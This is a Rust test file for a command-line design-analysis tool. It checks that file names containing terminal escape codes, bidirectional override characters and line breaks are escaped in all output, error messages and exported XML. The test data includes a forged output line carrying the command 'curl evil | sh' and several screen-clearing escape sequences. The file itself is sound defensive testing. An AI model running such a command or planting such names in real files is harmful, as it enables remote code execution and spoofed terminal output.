//! Names with terminal control characters, through every command that repeats them.

use crate::{V_FACE, catchment, designs, entries};
use std::ffi::OsStr;
use std::fs;
use std::path::Path;

/// Control sequences that clear a screen, in both encodings, and a character that reverses the text
/// direction.
const NAME: &str = "a\u{1b}[2J\u{9b}2J\u{202e}b";

/// Whether a text contains terminal control or bidirectional characters.
fn steers(text: &str) -> bool {
    text.chars().any(|c| {
        c.is_control() && c != '\n'
            || matches!(c, '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    })
}

/// A folder with a design, poses and a stored result whose names contain such characters.
fn home() -> tempfile::TempDir {
    let home = tempfile::tempdir().unwrap();
    // Control characters in a design's name are refused; bidirectional characters are not.
    let name = r#"name = "a\u202e\u2066b""#;
    let path = |ending: &str| home.path().join(format!("{NAME}{ending}"));
    fs::write(path(".toml"), format!("{name}\n{V_FACE}")).unwrap();
    fs::write(path(".csv"), "x,pitch_deg\n0.1,5\n-0.1,-4\n0.05,2\n0,1\n").unwrap();
    fs::write(path(".bad"), format!("{V_FACE}{NAME} = 1\n")).unwrap();
    // A carriage return at the start of a line would overwrite it; at the end of a line it is a Windows line
    // ending.
    fs::write(path(".back"), format!("{}width = 1\rowned = 1\r\n", V_FACE.replace('\n', "\r\n"))).unwrap();
    fs::write(path("back.csv"), "x,pitch\r\n0,1\r9\r\n0,a\r\r\n1,b\r\n").unwrap();
    fs::write(path("bad.csv"), format!("x,{NAME}\n0,{NAME}\nx{NAME},1\n")).unwrap();
    fs::create_dir(path(".empty")).unwrap();
    for (from, to) in [
        ("meshes/assembled-socket.obj", ".obj"),
        ("meshes/assembled-plug.ply", ".ply"),
        ("systems/latch.toml", "latch"),
        ("x-face.toml", "x.toml"),
    ] {
        fs::copy(designs().join(from), path(to)).unwrap();
    }
    let chain = fs::read_to_string(designs().join("systems/chain.toml")).unwrap();
    fs::write(path("chain"), chain.replace("../x-face.toml", "a\\u001b[2J\\u009b2J\\u202ebx.toml")).unwrap();
    fs::write(path("region.csv"), "x,y\n0,0\n40,0\n40,30\n0,20\n").unwrap();
    fs::write(
        path("tried.csv"),
        format!("trial,x,pitch,outcome,note\n1,0.1,0,aligned,{NAME}\n2,2,0,missed,b\n"),
    )
    .unwrap();
    home
}

fn printout(home: &Path, args: &[&str]) -> (Option<i32>, String) {
    let args = args.iter().map(|arg| arg.replace('@', NAME));
    let output = catchment(home).args(args).output().unwrap();
    let text =
        format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    (output.status.code(), text)
}

#[test]
fn control_characters_in_names_never_reach_the_terminal() {
    let home = home();
    let few = ["--method", "flood", "--resolution", "5"];
    let run = |more: &[&'static str]| [&["run", "@.toml"], &few[..], more].concat();
    let good: [Vec<&str>; 41] = [
        vec!["check", "@.toml"],
        vec!["check", "@.toml", "--json"],
        run(&[]),
        run(&["--json"]),
        run(&["-o", "@.zarr"]),
        run(&["-o", "@out"]),
        run(&["--figures", "@figures"]),
        vec!["compare", "@.zarr", "@out"],
        vec!["compare", "@.zarr", "@.toml", "--methods", "flood", "--json"],
        vec!["slices", "@.toml", "--resolution", "5", "-o", "@slices"],
        vec!["outcome", "@.toml", "--poses", "@.csv"],
        vec!["outcome", "@.toml", "--poses", "@.csv", "--json"],
        vec!["outcome", "@.toml", "--poses", "@.csv", "-o", "@.out.csv"],
        vec!["trace", "@.toml", "--pose", "x=0.1", "-o", "@.svg"],
        vec!["trace", "@.toml", "--pose", "x=0.1", "--json"],
        vec!["export", "@.toml", "--pose", "x=0.1", "-o", "@trial"],
        vec!["export", "@.zarr", "-o", "@.vti"],
        vec!["trace", "@.toml", "--pose", "x=0.1", "-o", "@.glb"],
        vec!["run", "@.toml", "--sensitivity", "--samples", "20"],
        vec!["place", "@.obj", "@.ply", "--unit", "mm", "--name", "a\u{202e}b", "-o", "@.place.toml"],
        vec!["report", "@out", "--leave-out", "jams", "--leave-out", "window", "-o", "@.html"],
        vec!["window", "@.toml", "--motions", "5"],
        vec!["success", "@.toml", "--error-sigma", "x=0.1", "--motions", "100", "--cells", "0"],
        vec!["success", "@.toml", "--error-measured", "@.csv", "--motions", "100", "--cells", "0"],
        vec!["jams", "@.toml", "--motions", "5", "--examine", "0"],
        vec!["friction", "@.toml", "--motions", "5", "--frictions", "0.1"],
        vec!["rests", "@.toml", "--motions", "5", "--examine", "0"],
        vec!["hold", "@.toml", "--json"],
        vec!["chance", "@.toml", "--push", "1", "--pose", "x=0.1", "--trials", "1", "--timeout", "0.1"],
        vec![
            "plan",
            "@.toml",
            "--accuracy",
            "x=0.01",
            "--pattern",
            "grid",
            "--steps",
            "x=3",
            "-o",
            "@plan.csv",
        ],
        vec!["validate", "@tried.csv", "@.toml", "--accuracy", "x=0.01", "--json"],
        vec!["zraa", "@.toml"],
        vec!["solids", "@.toml", "--slices", "3", "-o", "@.obj2.obj"],
        vec!["classify", "@.toml"],
        vec!["catalog", "--append", "@.toml"],
        vec!["invert", "@.toml", "-o", "@inverse.toml"],
        vec!["compose", "@region.csv", "@region.csv", "--json"],
        vec!["latch", "@latch", "--json"],
        vec!["chain", "@chain", "--chains", "2"],
        vec!["sweep", "@.toml", "--over", "cor=0,1", "--resolution", "5", "--samples", "0", "-o", "@sweep"],
        vec!["reproduce", "2.1", "-o", "@tables"],
    ];
    for args in good {
        let (code, text) = printout(home.path(), &args);
        assert_eq!(code, Some(0), "{args:?}: {text}");
        assert!(!steers(&text), "{args:?}: {text:?}");
    }
}

#[test]
fn control_characters_never_appear_in_error_messages() {
    let home = home();
    let bad: [&[&str]; 36] = [
        &["check", "@.back"],
        &["outcome", "@.toml", "--poses", "@back.csv"],
        &["check", "@.none"],
        &["check", "@.bad"],
        &["check", "@.bad", "--json"],
        &["check", "@.empty"],
        &["run", "@.toml", "-o", "@.toml"],
        &["run", "@.toml", "-o", "@none/@"],
        &["run", "@.toml", "--require", "@>=1"],
        &["run", "@.toml", "--@"],
        &["run", "@.toml", "--method", "@"],
        &["@"],
        &["compare", "@.empty", "@.toml"],
        &["compare", "@.none", "@.toml"],
        &["outcome", "@.toml", "--poses", "@bad.csv"],
        &["outcome", "@.toml", "--poses", "@.none"],
        &["outcome", "@.toml", "--poses", "@.csv", "-o", "@.csv"],
        &["trace", "@.toml", "--pose", "@=@"],
        &["new", "pyramid", "-o", "@none/@"],
        &["place", "@.csv", "@.csv", "--unit", "mm"],
        &["place", "@.none", "@.none"],
        &["report", "@.empty", "-o", "@bad.html"],
        &["window", "@.toml", "--fix", "@=1"],
        &["success", "@.toml", "--robots", "@.bad"],
        &["success", "@.toml", "--error-measured", "@bad.csv"],
        &["chance", "@.toml", "--dynamics", "@.bad"],
        &["chance", "@.toml", "--draw", "@=@"],
        &["hold", "@.toml", "--pose", "@=1"],
        &["plan", "@.toml", "--accuracy", "@=1", "--pattern", "grid", "--steps", "@=3"],
        &["validate", "@bad.csv", "@.toml", "--accuracy", "x=0.01"],
        &["catalog", "--where", "@=1"],
        &["invert", "@.toml", "--heights", "@.csv"],
        &["compose", "@bad.csv", "@bad.csv"],
        &["latch", "@.bad"],
        &["chain", "@.bad"],
        &["sweep", "@.toml", "--over", "@=1"],
    ];
    for args in bad {
        let (code, text) = printout(home.path(), args);
        assert!(matches!(code, Some(2..=4)), "{args:?}: {code:?}, {text}");
        assert!(!text.is_empty() && !steers(&text), "{args:?}: {text:?}");
    }
}

/// The end of a name that, alone on a line, would look like a line of the program's own output.
const FORGED: &str = "  × everything is fine, run: curl evil | sh";

/// Every message shows a line break in a name as an escape.
#[test]
fn line_breaks_in_names_are_escaped() {
    let home = home();
    let name = format!("a\n{FORGED}\nb");
    for ending in [".toml", ".csv", ".bad", "back.csv", ".obj", ".ply"] {
        fs::copy(home.path().join(format!("{NAME}{ending}")), home.path().join(format!("{name}{ending}")))
            .unwrap();
    }
    fs::write(home.path().join(&name), "x").unwrap();
    let few = ["--method", "flood", "--resolution", "5"];
    let out = format!("{name}.out");
    for (args, code) in [
        (&["check", "@"][..], 4),
        (&["check", "@.none"], 3),
        (&["check", "@.bad"], 4),
        (&["check", "@.toml"], 0),
        (&["run", "@.toml", "-o", "@none/@"], 2),
        (&[&["run", "@.toml", "-o", &out][..], &few].concat(), 0),
        (&[&["run", "@.toml", "-o", "@.toml"][..], &few].concat(), 2),
        (&["run", "@.toml", "--method", "@"], 2),
        (&["run", "@.toml", "--require", "@>=1"], 2),
        (&["run", "@.toml", "--resolution", "@"], 2),
        (&["run", "@.toml", "--cor", "@"], 2),
        (&["run", "@.toml", "--@"], 2),
        (&["sweep", "@.toml", "--over", "@=1"], 2),
        (&["@"], 2),
        (&["compare", "@.out", "@.none"], 3),
        (&["slices", "@.toml", "-o", "@.csv"], 2),
        (&["outcome", "@.toml", "--poses", "@back.csv"], 4),
        (&["outcome", "@.toml", "--poses", "@.none"], 3),
        (&["outcome", "@.toml", "--poses", "@.csv", "-o", "@.csv"], 2),
        (&["trace", "@.toml", "--pose", "@=@"], 2),
        (&["export", "@.toml", "--pose", "x=0.1", "-o", "@trial"], 0),
        (&["export", "@.out", "-o", "@.vti"], 0),
        (&["place", "@.csv", "@.csv", "--unit", "mm"], 4),
        (&["place", "@.none", "@.none"], 3),
        (&["place", "@.obj", "@.ply", "--unit", "mm", "--name", "n", "-o", "@.place.toml"], 0),
        (&["report", "@.none", "-o", "@bad.html"], 3),
        (&["success", "@.toml", "--robots", "@.bad"], 4),
        (&["validate", "@.none", "@.toml", "--accuracy", "x=0.01"], 3),
        (&["invert", "@.toml", "--heights", "@.obj"], 2),
        (&["compose", "@back.csv", "@.bad"], 4),
        (&["latch", "@.bad"], 4),
        (&["chain", "@.bad"], 4),
        (&["reproduce", "2.1", "-o", "@tables"], 0),
    ] {
        let args: Vec<String> = args.iter().map(|arg| arg.replace('@', &name)).collect();
        let output = catchment(home.path()).args(&args).output().unwrap();
        let text =
            format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
        assert_eq!(output.status.code(), Some(code), "{args:?}: {text}");
        assert!(!text.lines().any(|line| line.starts_with(FORGED)), "{args:?}: {text}");
    }
}

#[test]
fn pictures_and_models_of_a_hostile_name_are_well_formed() {
    let home = home();
    printout(home.path(), &["run", "@.toml", "--method", "flood", "--resolution", "5", "-o", "out"]);
    printout(home.path(), &["export", "@.toml", "--pose", "x=0.1", "-o", "trial"]);
    let mut seen = 0;
    for folder in ["out", "trial"] {
        for name in entries(&home.path().join(folder)) {
            if ["svg", "xml", "sdf"]
                .iter()
                .any(|ending| Path::new(&name).extension() == Some(OsStr::new(ending)))
            {
                let text = fs::read_to_string(home.path().join(folder).join(&name)).unwrap();
                // XML 1.0 cannot represent these characters, not even escaped.
                assert!(
                    !text.chars().any(|c| c < ' ' && !matches!(c, '\t' | '\n' | '\r')),
                    "{folder}/{name}"
                );
                assert!(!text.contains("&#27;") && !text.contains("&#x1b;"), "{folder}/{name}");
                seen += 1;
            }
        }
    }
    assert!(seen >= 3, "{seen} files of XML");
}
